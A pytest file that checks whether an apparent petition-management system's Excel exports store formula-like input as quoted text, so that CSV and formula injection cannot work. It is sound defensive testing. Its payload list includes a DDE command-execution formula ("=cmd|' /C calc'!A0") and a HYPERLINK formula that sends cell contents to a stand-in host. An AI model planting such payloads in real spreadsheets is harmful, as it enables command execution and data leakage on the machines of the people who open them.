"""Every workbook the product writes keeps what people typed as text: a cell that begins like a
formula ("=", "+", "-", "@", a tab or a carriage return) is a string marked with Excel's leading
apostrophe, never a formula, and reads back exactly as typed; numbers stay numbers. Each export is
opened with openpyxl: the matter list, the rows an import refused, the report tables and the
dashboard tables."""

import io
from datetime import date, datetime

import pytest
from conftest import Driver, sign_in
from openpyxl import load_workbook
from test_analytics import october  # noqa: F401  (fixture)

from xinfang.analytics import snapshot
from xinfang.analytics.figures import Issue
from xinfang.analytics.situation_report.figures import Alert
from xinfang.analytics.situation_report.xlsx import render_tables_xlsx
from xinfang.core.workbook import Book
from xinfang.ledger import jobs
from xinfang.ledger.models import ImportJob
from xinfang.petitions.models import Category

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?q="&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+86 138 0013 8000",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "＝1＋1",
]


def book_of(content: bytes):
    return load_workbook(io.BytesIO(content))  # not read-only: cell types and styles as stored


def text_cells(book):
    return [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]


def assert_no_formula(book):
    formulas = [(c.coordinate, c.value) for c in text_cells(book) if c.data_type == "f"]
    assert formulas == []


def assert_kept_as_typed(book, typed):
    """Each typed value is in the workbook as the same text, marked as text (leading apostrophe)."""
    assert_no_formula(book)
    cells = {c.value: c for c in text_cells(book) if isinstance(c.value, str)}
    for value in typed:
        assert value in cells, value
        assert cells[value].data_type == "s" and cells[value].quotePrefix, value


def test_the_writer_keeps_text_text_and_numbers_numbers():
    book = Book()
    sheet = book.sheet("表", ["名称", "数值"])
    for value in HOSTILE:
        sheet.append([value, -5])
    sheet.append(["普通文字", 1.5])
    sheet.append(["#N/A", date(2026, 11, 23)])
    sheet.append(["控制\x01字符\x08", 0])
    out = io.BytesIO()
    book.save(out)
    loaded = book_of(out.getvalue())
    assert_kept_as_typed(loaded, HOSTILE)
    rows = list(loaded.active.iter_rows(min_row=2, values_only=True))
    assert [r[1] for r in rows] == [-5] * len(HOSTILE) + [1.5, datetime(2026, 11, 23), 0]
    cells = list(loaded.active.iter_rows(min_row=2))
    assert all(row[1].data_type == "n" for row in cells[: len(HOSTILE)])  # negative numbers stay numbers
    assert cells[-3][0].value == "普通文字" and not cells[-3][0].quotePrefix
    assert cells[-2][0].value == "#N/A" and cells[-2][0].data_type == "s"  # text, not an error value
    assert cells[-1][0].value == "控制字符"  # what XML cannot hold is left out instead of failing the export


def test_the_matter_list_export_keeps_titles_and_names_as_text(client, world):
    d = Driver(world)
    for value in HOSTILE[:5]:
        d.register(title=value[:40], petitioners=[{"name": "李明", "address": value}])
    sign_in(client, "alice")
    response = client.get("/matters/export/", {"tab": "all"})
    book = book_of(b"".join(response.streaming_content))
    assert_kept_as_typed(book, [v[:40] for v in HOSTILE[:5]] + HOSTILE[:5])


def test_the_refused_rows_of_an_import_come_back_as_typed(world, tmp_path):
    header = [
        "编号",
        "信访人",
        "住址",
        "信访时间",
        "问题属地",
        "内容分类",
        "信访方式",
        "案情",
        "诉求",
        "办理意见",
    ]
    typed = [
        "=1+2",
        "张三",
        "@SUM(A1)",
        "2026-11-02",
        "东湖街道",
        "城乡建设／物业管理",
        "",
        "\t=1+1",
        "+cmd",
        "-x",
    ]
    content = (",".join(header) + "\n" + ",".join(typed) + "\n").encode()
    job = jobs.new_job(world.alice, content, "台账.csv")
    job.state = ImportJob.State.QUEUED
    job.save()
    job = jobs.run(job.pk)
    assert job.state == ImportJob.State.REJECTED and job.error_count == 1
    book = book_of(jobs.content_of(job.error_file))
    row = [c.value for c in book.active[2]]
    assert row[: len(typed)] == [v or None for v in typed]
    assert_kept_as_typed(book, ["=1+2", "@SUM(A1)", "\t=1+1", "+cmd", "-x"])


def test_the_report_tables_keep_names_as_text_and_numbers_as_numbers():
    from test_reports import monthly

    data = monthly(
        top_issues=[Issue("=1+1", "城乡建设", 96, 70, ("-湖滨小区物业费上调",))],
        alerts=[Alert("红色", "@SUM(A1)")],
    )
    book = book_of(render_tables_xlsx(data))
    assert_kept_as_typed(book, ["=1+1", "-湖滨小区物业费上调", "@SUM(A1)"])
    assert book["主要问题"]["D2"].data_type == "n" and book["总体情况"]["B2"].data_type == "n"


def test_the_dashboard_export_keeps_names_as_text(client, world, october):  # noqa: F811
    hostile = '=HYPERLINK("http://x.invalid","劳动")'  # fits 类别名称 (40)
    Category.objects.filter(pk=Category.objects.get(name="工资福利").parent_id).update(name=hostile)
    snapshot.refresh()
    sign_in(client, "leo")
    response = client.get("/analytics/", {"first": "2026-10-01", "last": "2026-10-31", "export": "all"})
    book = book_of(response.content)
    assert_kept_as_typed(book, [hostile])
    counts = [c for c in text_cells(book) if isinstance(c.value, int)]
    assert counts and all(c.data_type == "n" for c in counts)


@pytest.mark.parametrize("value", HOSTILE)
def test_each_formula_start_is_marked(value):
    book = Book()
    book.sheet("表").append([value])
    out = io.BytesIO()
    book.save(out)
    assert_kept_as_typed(book_of(out.getvalue()), [value])
